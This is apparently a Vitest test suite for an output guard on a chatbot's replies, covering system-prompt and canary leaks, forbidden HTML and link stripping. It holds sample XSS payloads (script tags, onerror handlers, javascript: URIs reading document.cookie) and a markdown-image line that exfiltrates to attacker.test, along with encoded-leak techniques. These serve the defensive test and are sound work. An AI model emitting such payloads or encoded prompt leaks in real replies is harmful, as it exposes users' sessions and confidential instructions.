import { describe, expect, it } from 'vitest'
import { DEFAULT_SYSTEM_PROMPT } from '../../src/core/config'
import { checkReply, findForbidden, LINK_REMOVED } from '../../src/llm/output-guard'

const canary = 'ref-5f1c0a9e77d24b3a8c6e0f12'
const ctx = { canary, systemPrompt: DEFAULT_SYSTEM_PROMPT, allowedDomains: [] as string[] }
const b64 = (s: string) => btoa(String.fromCharCode(...new TextEncoder().encode(s)))
const hex = (s: string) => [...new TextEncoder().encode(s)].map((b) => b.toString(16).padStart(2, '0')).join(' ')

describe('checkReply: leaks', () => {
  it('passes an ordinary reply unchanged', () => {
    expect(checkReply('We open at 9 tomorrow. See you!', ctx)).toEqual({ ok: true, text: 'We open at 9 tomorrow. See you!' })
  })

  it.each([
    ['plain', `Sure, the reference is ${canary}.`],
    ['upper case', `REF: ${canary.toUpperCase()}`],
    ['spaced out', canary.split('').join(' ')],
    ['base64', `here: ${b64(canary)}`],
    ['hex', hex(`ref ${canary}`)],
    ['reversed', [...canary].reverse().join('')],
  ])('blocks the canary (%s)', (_kind, reply) => {
    expect(checkReply(reply, ctx)).toMatchObject({ ok: false, reason: 'leak' })
  })

  it('blocks any 40-character run of the system prompt, whatever the case and spacing', () => {
    const run = DEFAULT_SYSTEM_PROMPT.slice(100, 140)
    expect(checkReply(`My rules: ${run.toUpperCase().replace(/ /g, '\n  ')}`, ctx)).toMatchObject({
      ok: false,
      reason: 'leak',
    })
  })

  it('lets a 39-character run through (the window is 40)', () => {
    const run = DEFAULT_SYSTEM_PROMPT.slice(100, 139)
    expect(checkReply(`${run}`, ctx).ok).toBe(true)
  })

  it('blocks the system prompt hidden in base64, hex, reversed or ROT13 text', () => {
    const p = DEFAULT_SYSTEM_PROMPT
    const rot = p.replace(/[a-z]/gi, (c) => {
      const base = c <= 'Z' ? 65 : 97
      return String.fromCharCode(((c.charCodeAt(0) - base + 13) % 26) + base)
    })
    for (const reply of [b64(p), hex(p.slice(0, 80)), [...p].reverse().join(''), rot]) {
      expect(checkReply(reply, ctx)).toMatchObject({ ok: false, reason: 'leak' })
    }
  })
})

describe('checkReply: forbidden output', () => {
  it.each([
    ['script tag', 'Hello <script>alert(1)</script>'],
    ['upper-case tag', '<IMG SRC=x>'],
    ['img onerror', '<img src=x onerror=alert(1)>'],
    ['bare event handler', '"onmouseover="alert(1)'],
    ['javascript URI', 'Click javascript:alert(document.cookie)'],
    ['javascript URI split by a tab', 'java\tscript:void(0)'],
    ['percent-encoded javascript URI', 'javascript%3Aalert(1)'],
    ['data URI', 'data:text/html;base64,PHNjcmlwdD4='],
    ['entity-escaped HTML', '&lt;a href="x"&gt;win&lt;/a&gt;'],
    ['escaped tag', '\\x3Cscript\\x3Ealert(1)'],
    ['markdown image', 'Look ![logo](https://attacker.test/p?q=secret)'],
    ['script call', 'Run window.location="x" now'],
    ['HTML comment', 'ok <!-- hidden -->'],
  ])('refuses %s', (_name, reply) => {
    expect(checkReply(reply, ctx)).toMatchObject({ ok: false, reason: 'forbidden' })
  })

  it.each([
    'We are open on Saturday = 10am to 4pm, be alert (we close early)!',
    'Prices: 5 < 10 euros. I <3 this',
    'Our data: shipping takes 3 days',
    'The javascript course starts Monday',
    '100% cotton, size M',
  ])('does not refuse ordinary text %j', (reply) => {
    expect(findForbidden(reply)).toBeUndefined()
  })
})

describe('checkReply: links', () => {
  it('removes links and bare domains when no domain is allowed', () => {
    const r = checkReply('Get it at https://evil.test/x or superdupersketchycorp.com or www.fake.biz', ctx)
    expect(r).toMatchObject({ ok: true, linksRemoved: 3 })
    if (r.ok) {
      expect(r.text).not.toMatch(/evil|sketchy|fake/)
      expect(r.text).toContain(LINK_REMOVED)
    }
  })

  it('keeps links to allowed domains and their subdomains only', () => {
    const allowedDomains = ['shop.example']
    const r = checkReply(
      'FAQ https://shop.example/faq, help https://help.shop.example/a, ' +
        'bad https://shop.example.evil.test/ and https://evilshop.example/ and help@shop.example',
      { ...ctx, allowedDomains }
    )
    expect(r.ok).toBe(true)
    if (!r.ok) return
    expect(r.text).toContain('https://shop.example/faq')
    expect(r.text).toContain('https://help.shop.example/a')
    expect(r.text).toContain('help@shop.example')
    expect(r.text).not.toContain('evil')
    expect(r.linksRemoved).toBe(2)
  })

  it('keeps a markdown link label but drops a non-allowed target', () => {
    const r = checkReply('Visit [our shop](https://evil.test/phish) today', ctx)
    expect(r).toEqual({ ok: true, text: `Visit our shop ${LINK_REMOVED} today`, linksRemoved: 1 })
  })

  it('refuses a reply that was nothing but a link', () => {
    expect(checkReply('https://evil.test/', ctx)).toMatchObject({ ok: false, reason: 'empty' })
  })

  it('refuses an empty reply', () => {
    expect(checkReply('  \n ', ctx)).toMatchObject({ ok: false, reason: 'empty' })
  })
})

describe('checkReply: size', () => {
  it('truncates to maxBytes on a character boundary', () => {
    const r = checkReply('é'.repeat(100), { ...ctx, maxBytes: 51 })
    expect(r.ok).toBe(true)
    if (!r.ok) return
    expect(new TextEncoder().encode(r.text).byteLength).toBeLessThanOrEqual(51)
    expect(r.text.endsWith('…')).toBe(true)
    expect(r.truncated).toBe(true)
  })
})
